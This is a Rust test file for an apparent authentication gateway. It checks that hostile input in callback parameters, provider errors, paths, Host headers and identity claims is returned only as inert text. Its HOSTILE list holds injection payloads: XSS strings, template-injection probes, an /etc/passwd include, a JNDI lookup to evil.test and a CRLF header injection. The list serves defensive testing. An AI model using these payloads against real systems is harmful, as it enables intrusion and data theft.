//! What strangers write never comes back as anything but plain text, if at all.

use bytes::Bytes;
use http::Request;
use url::form_urlencoded::byte_serialize;

use crate::support::{
    client::{Answer, page_view},
    house::{HOST, house},
    issuer::{Authorization, person},
};

const HOSTILE: [&str; 12] = [
    "\"><svg onload=alert(1)>",
    "</title></script><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "{{1234*9}}",
    "${1234*9}",
    "{% include \"/etc/passwd\" %}",
    "${jndi:ldap://evil.test/a}",
    "{env.HOME}",
    "%s%n%x%d",
    "javascript:alert(1)",
    "\u{2028}\u{202e}<b>",
    "\r\nSet-Cookie: evil=1\r\n\r\n<html>",
];

/// No part of the answer holds markup that is not ours, and no header was slipped in.
fn assert_inert(answer: &Answer, what: &str) {
    let text = String::from_utf8_lossy(&answer.body);
    for alive in ["<svg", "<script", "<img src=x", "<b>", "11106", "root:"] {
        assert!(!text.contains(alive), "{what}: {alive} in {text}");
    }
    for line in answer.headers.get_all("set-cookie") {
        assert!(!line.to_str().unwrap().contains("evil"), "{what}");
    }
    let policy = answer.header("content-security-policy").unwrap();
    assert!(
        policy.contains("default-src 'none'") && !policy.contains("unsafe"),
        "{what}"
    );
}

fn encoded(text: &str) -> String {
    byte_serialize(text.as_bytes()).collect()
}

/// The text but for what is new in every answer: reference and time.
fn without_reference(answer: &Answer) -> String {
    let text = answer.text();
    let end = text.find("<footer>").unwrap();
    text[..end].to_owned()
}

#[tokio::test]
async fn what_comes_with_a_callback_is_not_shown() {
    // S-083, S-084: with a state that is nobody's, the page is the same whatever else comes.
    let house = house().await;
    let plain = house
        .browser()
        .view(&house.url("/.vestibule/callback?state=x"))
        .await;
    for hostile in HOSTILE {
        let value = encoded(hostile);
        for name in [
            "error",
            "error_description",
            "error_uri",
            "state",
            "code",
            "iss",
            "session_state",
            "x",
        ] {
            let url = house.url(&format!("/.vestibule/callback?{name}={value}"));
            let answer = house.browser().view(&url).await;
            assert_inert(&answer, hostile);
            assert_eq!(
                without_reference(&answer),
                without_reference(&plain),
                "{name}={hostile}"
            );
        }
    }
}

#[tokio::test]
async fn what_a_provider_says_about_an_error_is_not_shown() {
    // S-083, S-203
    let house = house().await;
    let mut pages = Vec::new();
    for hostile in HOSTILE {
        house.idp.lie(|it| {
            it.authorization = Authorization::Error(hostile.to_owned(), format!("AADSTS{hostile}"));
            it.callback(|back| {
                back.push(("error_uri".to_owned(), "https://evil.test/".to_owned()));
            });
        });
        let answer = house.come_back(&mut house.browser()).await;
        assert_eq!(answer.status, 403);
        assert_inert(&answer, hostile);
        assert!(!answer.text().contains("evil"), "{hostile}");
        pages.push(without_reference(&answer));
    }
    pages.dedup();
    assert_eq!(pages.len(), 1);
}

#[tokio::test]
async fn a_page_that_was_asked_for_is_shown_as_a_link_to_ourselves() {
    // S-083: the path in the link of a sign-in page.
    let house = house().await;
    for hostile in HOSTILE {
        let value = encoded(hostile);
        for path in [
            format!("/{value}"),
            format!("/?q={value}"),
            format!("/.vestibule/{value}"),
        ] {
            let request = page_view(Request::post(house.url(&path.replace('+', "%20"))));
            let answer = house
                .browser()
                .send(request.body(Bytes::new()).unwrap())
                .await;
            assert!(answer.status.is_client_error());
            assert_inert(&answer, hostile);
            let problem = house.browser().get(&house.url(&path)).await;
            assert!(problem.status.is_client_error());
            assert_ne!(
                problem.header("content-type"),
                Some("text/html; charset=utf-8")
            );
        }
    }
}

#[tokio::test]
async fn raw_targets_and_hosts_are_not_shown() {
    // S-083
    let house = house().await;
    let authority = house.vestibule.authority(HOST);
    for hostile in HOSTILE {
        let hostile = hostile.replace(['\r', '\n'], "");
        for (target, host) in [
            (format!("/{hostile}"), authority.clone()),
            (format!("/?{hostile}"), authority.clone()),
            ("/".to_owned(), hostile.clone()),
            (format!("https://{hostile}/"), authority.clone()),
        ] {
            let head =
                format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nAccept: text/html\r\n\r\n");
            let said = house.vestibule.raw(HOST).say(head).await;
            let text = said.text();
            assert!(
                !text.contains("<svg") && !text.contains("<script>"),
                "{text}"
            );
            assert!(
                !text.contains("<img src=x") && !text.contains("jndi"),
                "{text}"
            );
        }
    }
    house.assert_no_panic();
}

#[tokio::test]
async fn who_somebody_claims_to_be_is_shown_as_text() {
    // S-083, S-084: a display name is the person's own to choose.
    let house = house().await;
    for hostile in HOSTILE {
        let mut browser = house.browser();
        let who = person("ann")
            .claim("name", hostile)
            .groups(&[hostile])
            .roles(&[hostile]);
        house.sign_in(&mut browser, who).await;
        let page = browser.view(&house.url("/.vestibule/me")).await;
        assert_eq!(page.status, 200);
        let text = page.text();
        for alive in ["<svg", "<script", "<img src=x", "<b>"] {
            assert!(!text.contains(alive), "{hostile}: {text}");
        }
        if hostile == "{{1234*9}}" {
            assert!(text.contains("{{1234*9}}"), "{text}");
        }
        if hostile == "{env.HOME}" {
            assert!(text.contains("{env.HOME}"), "{text}");
        }
        let me = browser.get(&house.url("/.vestibule/me")).await;
        assert_eq!(me.header("content-type"), Some("application/json"));
        assert_eq!(me.json()["name"], hostile);
    }
}
